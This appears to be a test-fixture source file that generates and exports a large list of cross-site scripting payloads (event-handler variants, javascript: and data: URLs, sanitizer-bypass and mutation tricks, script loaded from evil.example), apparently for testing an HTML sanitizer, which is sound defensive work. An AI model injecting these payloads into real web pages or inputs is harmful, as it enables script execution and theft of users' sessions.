const handlers = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbeforeinput',
  'onwheel', 'oncopy', 'onbegin', 'onpageshow', 'onscrollend', 'OnErRoR',
] // prettier-ignore
const carriers = [
  'p',
  'a',
  'img',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video',
  'marquee',
  'h2',
  'blockquote',
]

/** Every event handler on every element, with separators that parsers accept and filters miss. */
const withHandlers = carriers.flatMap((carrier, at) =>
  handlers.map((handler, turn) => {
    const gap = ['\n', '\t', '/', ' ', '\f', ' x="" '][(at + turn) % 6]
    const quote = ['"', "'", ''][turn % 3]
    return `<${carrier}${gap}${handler}=${quote}alert(1)${quote}>x</${carrier.split(' ')[0]}>`
  }),
)

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
  'java&#10;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', 'javascript&colon;alert(1)', 'java&Tab;script&colon;alert(1)',
  'jav&#x0000061;script:alert(1)', 'vbscript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'DATA:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://x/1', 'file:///etc/passwd', 'filesystem:x', 'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)', 'jar:javascript:alert(1)!/x', '//evil.example/x', '\\\\evil.example/x', '/\\evil.example', 'https:javascript:alert(1)',
] // prettier-ignore

const withAddresses = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href=${address.replaceAll(' ', '')}>x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button formaction='${address}'>x</button></form>`,
])

const elements = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/x>alert(1)</script >', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>', '<script\0>alert(1)</script>', '<svg><script>alert(1)</script></svg>', '<svg><script xlink:href=data:,alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><animate attributeName=href values=javascript:alert(1)>', '<svg><set attributeName=onload to=alert(1)>', '<svg><foreignObject><script>alert(1)</script>',
  '<math><mtext><script>alert(1)</script>', '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline#javascript:alert(1)">x',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "javascript:alert(1)"</style>', '<style><img src="</style><img src=x onerror=alert(1)//">', '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=data:text/html,x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">', '<applet code=x></applet>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<frameset onload=alert(1)>',
  '<template><script>alert(1)</script></template>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">', '<plaintext><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<a href="https://x" onclick="alert(1)" href="javascript:alert(1)">x</a>',
  '<a href="https://x/&quot; onclick=&quot;alert(1)">x</a>', `<a href='https://x/" onmouseover="alert(1)'>x</a>`, '<a rel="x&quot; onclick=alert(1) x=&quot;" href="https://x">x</a>',
  '<p title="<script>alert(1)</script>">x</p>', '<custom-element onclick=alert(1)>x</custom-element>', '<p is="x-y" onclick=alert(1)>x</p>', '<dialog open onclose=alert(1)>x</dialog>',
  '<portal src=javascript:alert(1)>', '<audio src=x onerror=alert(1)>', '<isindex action=javascript:alert(1) type=image>', '<img src=x:x onerror=alert`1`>', '<bgsound src="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x', '<p/onclick=alert(1)>x', '<a ping="javascript:alert(1)" href=https://x>x</a>', '<button popovertarget=x onbeforetoggle=alert(1)>x',
] // prettier-ignore

/** Rich text with cross-site scripting attempts: our own list of techniques and their variants. */
export const hostileHtml: readonly string[] = [...new Set([...withHandlers, ...withAddresses, ...elements])]
